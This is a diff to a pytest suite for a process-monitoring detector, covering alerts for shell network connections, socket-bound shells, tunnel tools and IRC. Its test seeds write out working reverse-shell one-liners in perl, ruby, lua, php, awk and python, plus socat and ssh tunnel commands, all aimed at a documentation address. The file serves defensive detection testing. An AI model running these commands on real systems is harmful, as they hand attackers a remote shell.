@@ -75,6 +75,7 @@ def check_contract(alert: dict[str, Any]) -> None:
 
 # ---------------------------------------------------------------- Sigma: shell_network_connection
 
+
 def test_sigma_bash_remote_connect_alerts_once_with_context() -> None:
     """bash connecting to a remote address gives one shell_network_connection alert with full context."""
     w = World()
@@ -187,16 +188,40 @@ def test_elastic_local_connect_ignored() -> None:
 
 FIFO = ("fifo", "fifo", "chr")
 SEEDS = [
-    ("/usr/bin/perl", ("perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);'
-                      'open(STDIN,">&S");exec("/bin/sh -i");'), None, True),
-    ("/usr/bin/ruby3.1", ("ruby3.1", "-rsocket", "-e", 'f=TCPSocket.open("198.51.100.2",4444).to_i;'
-                          'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'), None, True),
-    ("/usr/bin/lua5.4", ("lua5.4", "-e", "local s=require('socket');local t=socket.tcp();"
-                         "t:connect('198.51.100.2','4444');os.execute('/bin/sh -i <&3 >&3 2>&3')"), None, True),
-    ("/usr/bin/php", ("php", "-r", '$s=fsockopen("198.51.100.2",4444);exec("/bin/sh -i <&3 >&3 2>&3");'),
-     None, True),
-    ("/usr/bin/awk", ("awk", 'BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"; while (1) {s |& getline c}}'),
-     None, True),
+    (
+        "/usr/bin/perl",
+        (
+            "perl",
+            "-e",
+            'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");',
+        ),
+        None,
+        True,
+    ),
+    (
+        "/usr/bin/ruby3.1",
+        (
+            "ruby3.1",
+            "-rsocket",
+            "-e",
+            'f=TCPSocket.open("198.51.100.2",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
+        ),
+        None,
+        True,
+    ),
+    (
+        "/usr/bin/lua5.4",
+        (
+            "lua5.4",
+            "-e",
+            "local s=require('socket');local t=socket.tcp();"
+            "t:connect('198.51.100.2','4444');os.execute('/bin/sh -i <&3 >&3 2>&3')",
+        ),
+        None,
+        True,
+    ),
+    ("/usr/bin/php", ("php", "-r", '$s=fsockopen("198.51.100.2",4444);exec("/bin/sh -i <&3 >&3 2>&3");'), None, True),
+    ("/usr/bin/awk", ("awk", 'BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"; while (1) {s |& getline c}}'), None, True),
     ("/usr/bin/gawk", ("gawk", 'BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"}'), None, True),
     ("/usr/bin/openssl", ("openssl", "s_client", "-quiet", "-connect", "198.51.100.2:4444"), FIFO, False),
     ("/usr/bin/openssl", ("openssl", "s_client", "-connect", "198.51.100.2:443"), None, False),
@@ -212,8 +237,9 @@ SEEDS = [
 
 
 @pytest.mark.parametrize("filename,args,stdio,expected", SEEDS, ids=[" ".join(s[1][:2]) + f"-{s[3]}" for s in SEEDS])
-def test_elastic_seed_patterns(filename: str, args: tuple[str, ...], stdio: tuple[str, ...] | None,
-                               expected: bool) -> None:
+def test_elastic_seed_patterns(
+    filename: str, args: tuple[str, ...], stdio: tuple[str, ...] | None, expected: bool
+) -> None:
     """Each seed one-liner under bash followed by a remote connect alerts; the benign variants do not."""
     w = World()
     w.bash()
@@ -240,6 +266,7 @@ def test_elastic_fork_of_pending_interpreter_inherits_window() -> None:
 
 
 # ---------------------------------------------------------------- stdio_to_socket
+
 
 def test_stdio_dups_one_incident_one_line() -> None:
     """Three remote-socket dups onto fds 0, 1 and 2 give one alert line; the later two are suppressed."""
@@ -271,8 +298,19 @@ def test_stdio_shell_exec_on_socket() -> None:
     """A shell exec'd with a remote socket as stdin is stdio_to_socket, with the socket's destination."""
     w = World()
     w.spawn(150, None, "/usr/bin/socat", ("socat", "TCP-LISTEN:9000", "STDOUT"))
-    w.spawn(300, 150, "/bin/sh", ("sh", "-i"), t=1.0, stdio=("socket", "socket", "socket"), stdio_socket_fd=0,
-            stdio_family="ipv4", stdio_transport="tcp", stdio_daddr=REMOTE, stdio_dport=4444)
+    w.spawn(
+        300,
+        150,
+        "/bin/sh",
+        ("sh", "-i"),
+        t=1.0,
+        stdio=("socket", "socket", "socket"),
+        stdio_socket_fd=0,
+        stdio_family="ipv4",
+        stdio_transport="tcp",
+        stdio_daddr=REMOTE,
+        stdio_dport=4444,
+    )
     assert len(w.alerts) == 1
     check_contract(w.alerts[0])
     assert w.alerts[0]["chainwatch"]["signals"] == ["stdio_to_socket"]
@@ -282,12 +320,23 @@ def test_stdio_shell_exec_on_socket() -> None:
 def test_stdio_shell_exec_on_loopback_socket_ignored() -> None:
     """A shell exec'd on a loopback socket is no alert."""
     w = World()
-    w.spawn(300, None, "/bin/sh", ("sh",), stdio=("socket", "socket", "socket"), stdio_socket_fd=0,
-            stdio_family="ipv4", stdio_transport="tcp", stdio_daddr="127.0.0.1", stdio_dport=4444)
+    w.spawn(
+        300,
+        None,
+        "/bin/sh",
+        ("sh",),
+        stdio=("socket", "socket", "socket"),
+        stdio_socket_fd=0,
+        stdio_family="ipv4",
+        stdio_transport="tcp",
+        stdio_daddr="127.0.0.1",
+        stdio_dport=4444,
+    )
     assert w.alerts == []
 
 
 # ---------------------------------------------------------------- tunnel_tool
+
 
 def test_tunnel_chisel_then_destination_update() -> None:
     """chisel client alerts at exec without destination; its connect adds one update line, same incident."""
@@ -316,17 +365,20 @@ def test_tunnel_connect_after_window_has_no_destination_update() -> None:
     assert len(w.alerts) == 1
 
 
-@pytest.mark.parametrize("filename,args,expected", [
-    ("/usr/bin/ssh", ("ssh", "-R8080:localhost:80", "user@198.51.100.2"), True),
-    ("/usr/bin/ssh", ("ssh", "-D", "1080", "user@198.51.100.2"), True),
-    ("/usr/bin/ssh", ("ssh", "user@198.51.100.2"), False),
-    ("/usr/bin/ssh", ("ssh", "-W", "db:22", "bastion"), False),  # -W (stdio forward) is not -w (tun device)
-    ("/usr/bin/socat", ("socat", "TCP:198.51.100.2:1", "EXEC:/bin/sh"), True),
-    ("/usr/bin/socat", ("socat", "tcp:198.51.100.2:1", "exec:/bin/sh,pty"), True),
-    ("/usr/bin/socat", ("socat", "TCP-LISTEN:8000", "STDOUT"), False),
-    ("/usr/local/bin/ngrok", ("ngrok", "tcp", "22"), True),
-    ("/usr/local/bin/frpc", ("frpc", "-c", "frpc.toml"), True),
-])
+@pytest.mark.parametrize(
+    "filename,args,expected",
+    [
+        ("/usr/bin/ssh", ("ssh", "-R8080:localhost:80", "user@198.51.100.2"), True),
+        ("/usr/bin/ssh", ("ssh", "-D", "1080", "user@198.51.100.2"), True),
+        ("/usr/bin/ssh", ("ssh", "user@198.51.100.2"), False),
+        ("/usr/bin/ssh", ("ssh", "-W", "db:22", "bastion"), False),  # -W (stdio forward) is not -w (tun device)
+        ("/usr/bin/socat", ("socat", "TCP:198.51.100.2:1", "EXEC:/bin/sh"), True),
+        ("/usr/bin/socat", ("socat", "tcp:198.51.100.2:1", "exec:/bin/sh,pty"), True),
+        ("/usr/bin/socat", ("socat", "TCP-LISTEN:8000", "STDOUT"), False),
+        ("/usr/local/bin/ngrok", ("ngrok", "tcp", "22"), True),
+        ("/usr/local/bin/frpc", ("frpc", "-c", "frpc.toml"), True),
+    ],
+)
 def test_tunnel_invocations(filename: str, args: tuple[str, ...], expected: bool) -> None:
     """Tunnel tools alert only with the arguments that open a tunnel."""
     w = World()
@@ -345,6 +397,7 @@ def test_tunnel_renamed_binary_not_detected_known_limit() -> None:
 
 
 # ---------------------------------------------------------------- irc_connection
+
 
 def test_irc_remote_port() -> None:
     """A connect to a remote IRC port (6667) is irc_connection."""
@@ -367,12 +420,22 @@ def test_irc_loopback_ignored() -> None:
 
 # ---------------------------------------------------------------- correlation
 
+
 def test_correlation_interpreter_and_child_dup_one_incident() -> None:
     """The python one-liner's signal and its forked shell's socket dup are one incident, two lines."""
     w = World()
     w.bash()
-    w.spawn(300, 200, "/usr/bin/python3.11", ("python3.11", "-c", "import socket,os,pty;s=socket.socket();"
-                                              "s.connect(('198.51.100.2',4444));pty.spawn('/bin/sh')"), t=1.0)
+    w.spawn(
+        300,
+        200,
+        "/usr/bin/python3.11",
+        (
+            "python3.11",
+            "-c",
+            "import socket,os,pty;s=socket.socket();s.connect(('198.51.100.2',4444));pty.spawn('/bin/sh')",
+        ),
+        t=1.0,
+    )
     w.connect(300, REMOTE, 4444, t=1.1)
     w.spawn(301, 300, "/bin/sh", ("/bin/sh",), t=1.2)
     for fd in (0, 1, 2):
